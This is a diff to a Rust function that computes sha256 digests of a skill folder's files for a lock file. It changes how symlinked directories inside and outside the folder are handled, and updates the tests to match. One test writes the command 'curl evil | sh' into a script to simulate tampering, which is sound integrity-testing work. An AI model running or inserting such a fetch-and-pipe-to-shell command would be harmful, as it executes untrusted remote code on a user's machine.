@@ -2,13 +2,14 @@
 //! under the folder, by `/`-separated path relative to it, with the sha256
 //! of its bytes (`sha256:<hex>`), sorted by path.
 //!
-//! Links are followed, as an agent reading the folder follows them: a
-//! symlinked file is read through its link, and a symlinked directory is
-//! entered (`SKILL.md` may say "run `lib/x.sh`" with `lib` a link to
-//! elsewhere), each real directory once, so a link cycle cannot loop; the
-//! [`MAX_DIGEST_FILES`] bound stops a link to somewhere large. A link that
-//! leads to no file or directory (dangling, or a FIFO) is recorded by where
-//! it points, so retargeting or removing it still changes the digests.
+//! A symlinked file is read through its link (its content is what an agent
+//! would load). A symlinked directory within the folder is entered, each
+//! real directory once (the first path to it in name order, the same on
+//! every machine), so a link cycle cannot loop; a link to a directory
+//! elsewhere, or to nothing (dangling, or a FIFO), is recorded by where it
+//! points, so retargeting or removing it changes the digests, while the
+//! names and digests of files outside the folder (a link to a home
+//! directory) never go into a lock file a project commits.
 
 use std::collections::BTreeMap;
 use std::path::{Path, PathBuf};
@@ -44,27 +45,38 @@ pub fn folder_digests(folder: &Path) -> Result<BTreeMap<String, String>, FolderD
     };
     let mut digests = BTreeMap::new();
     let mut pending: Vec<(PathBuf, String)> = vec![(folder.to_path_buf(), String::new())];
+    // Links to directories are entered only within the folder itself.
+    let root = std::fs::canonicalize(folder).unwrap_or_else(|_| folder.to_path_buf());
     // Real directories entered, so a cycle of links ends.
     let mut entered = std::collections::HashSet::new();
+    let link_digest = |path: &Path, relative: &str| -> Result<String, FolderDigestError> {
+        let target = std::fs::read_link(path)
+            .map_err(|err| fail(format!("cannot read the link `{relative}`: {err}")))?;
+        let digest = Sha256::digest(target.as_os_str().as_encoded_bytes());
+        Ok(format!("symlink:{}", agents_core::text::hex(&digest)))
+    };
     while let Some((dir, prefix)) = pending.pop() {
         if let Ok(real) = std::fs::canonicalize(&dir)
             && !entered.insert(real)
         {
             continue;
         }
-        let entries = std::fs::read_dir(&dir).map_err(|err| {
+        let listed = |err: std::io::Error| {
             fail(format!(
                 "cannot list `{}`: {err}",
                 agents_core::text::shown_path(&dir)
             ))
-        })?;
+        };
+        // In name order, so which of two paths to one directory is entered
+        // (the first) is the same on every machine, whatever order the
+        // file system lists them in.
+        let mut entries = std::fs::read_dir(&dir)
+            .map_err(listed)?
+            .collect::<Result<Vec<_>, _>>()
+            .map_err(listed)?;
+        entries.sort_by_key(std::fs::DirEntry::file_name);
+        let mut below = Vec::new();
         for entry in entries {
-            let entry = entry.map_err(|err| {
-                fail(format!(
-                    "cannot list `{}`: {err}",
-                    agents_core::text::shown_path(&dir)
-                ))
-            })?;
             let name = entry.file_name().to_string_lossy().into_owned();
             let relative = if prefix.is_empty() {
                 name
@@ -80,22 +92,30 @@ pub fn folder_digests(folder: &Path) -> Result<BTreeMap<String, String>, FolderD
             } else {
                 None
             };
-            if kind.is_dir() || led_to.as_ref().is_some_and(std::fs::Metadata::is_dir) {
-                pending.push((path, relative));
+            if kind.is_dir() {
+                below.push((path, relative));
                 continue;
             }
             if digests.len() >= MAX_DIGEST_FILES {
                 return Err(fail(format!("more than {MAX_DIGEST_FILES} files")));
             }
+            if led_to.as_ref().is_some_and(std::fs::Metadata::is_dir) {
+                // A link to a directory of the folder is entered; one to
+                // anywhere else counts by where it points: the names and
+                // digests of files outside (a home directory) do not go
+                // into a lock file a project commits.
+                if std::fs::canonicalize(&path).is_ok_and(|real| real.starts_with(&root)) {
+                    below.push((path, relative));
+                } else {
+                    let digest = link_digest(&path, &relative)?;
+                    digests.insert(relative, digest);
+                }
+                continue;
+            }
             if kind.is_symlink() && !led_to.as_ref().is_some_and(std::fs::Metadata::is_file) {
                 // Dangling, or to a FIFO or device: where it points.
-                let target = std::fs::read_link(&path)
-                    .map_err(|err| fail(format!("cannot read the link `{relative}`: {err}")))?;
-                let digest = Sha256::digest(target.as_os_str().as_encoded_bytes());
-                digests.insert(
-                    relative,
-                    format!("symlink:{}", agents_core::text::hex(&digest)),
-                );
+                let digest = link_digest(&path, &relative)?;
+                digests.insert(relative, digest);
                 continue;
             }
             if !kind.is_file() && !kind.is_symlink() {
@@ -105,6 +125,8 @@ pub fn folder_digests(folder: &Path) -> Result<BTreeMap<String, String>, FolderD
                 .map_err(|err| fail(format!("cannot read `{relative}`: {err}")))?;
             digests.insert(relative, digest);
         }
+        // Popped in name order.
+        pending.extend(below.into_iter().rev());
     }
     Ok(digests)
 }
@@ -155,16 +177,27 @@ mod tests {
         std::fs::create_dir_all(&skill).unwrap();
         std::fs::create_dir_all(&elsewhere).unwrap();
         std::fs::write(skill.join("SKILL.md"), "run lib/x.sh").unwrap();
-        std::fs::write(elsewhere.join("x.sh"), "echo 1").unwrap();
+        std::fs::create_dir_all(skill.join("v2")).unwrap();
+        std::fs::write(skill.join("v2/run.sh"), "echo 1").unwrap();
+        std::fs::write(elsewhere.join("secret"), "key").unwrap();
+        // Within the folder: entered once, under the first name.
+        std::os::unix::fs::symlink(skill.join("v2"), skill.join("current")).unwrap();
+        // A cycle: ends.
+        std::os::unix::fs::symlink(&skill, skill.join("v2/back")).unwrap();
+        // Elsewhere: recorded by its target, not listed.
         std::os::unix::fs::symlink(&elsewhere, skill.join("lib")).unwrap();
-        // A cycle: entered once.
-        std::os::unix::fs::symlink(&skill, elsewhere.join("back")).unwrap();
         let before = folder_digests(&skill).unwrap();
-        assert!(before.contains_key("lib/x.sh"), "{before:?}");
-        // A file changed behind the link changes the digests.
-        std::fs::write(elsewhere.join("x.sh"), "curl evil | sh").unwrap();
+        let keys: Vec<&str> = before.keys().map(String::as_str).collect();
+        assert_eq!(keys, ["SKILL.md", "current/run.sh", "lib"], "{before:?}");
+        assert!(before["lib"].starts_with("symlink:"));
+        // A file changed behind the link within changes the digests.
+        std::fs::write(skill.join("v2/run.sh"), "curl evil | sh").unwrap();
         let changed = folder_digests(&skill).unwrap();
-        assert_ne!(changed["lib/x.sh"], before["lib/x.sh"]);
+        assert_ne!(changed["current/run.sh"], before["current/run.sh"]);
+        // Retargeting the link elsewhere does too.
+        std::fs::remove_file(skill.join("lib")).unwrap();
+        std::os::unix::fs::symlink(dir.path(), skill.join("lib")).unwrap();
+        assert_ne!(folder_digests(&skill).unwrap()["lib"], before["lib"]);
         // A dangling link is recorded by where it points.
         std::os::unix::fs::symlink("/nowhere/a", skill.join("gone")).unwrap();
         let one = folder_digests(&skill).unwrap();
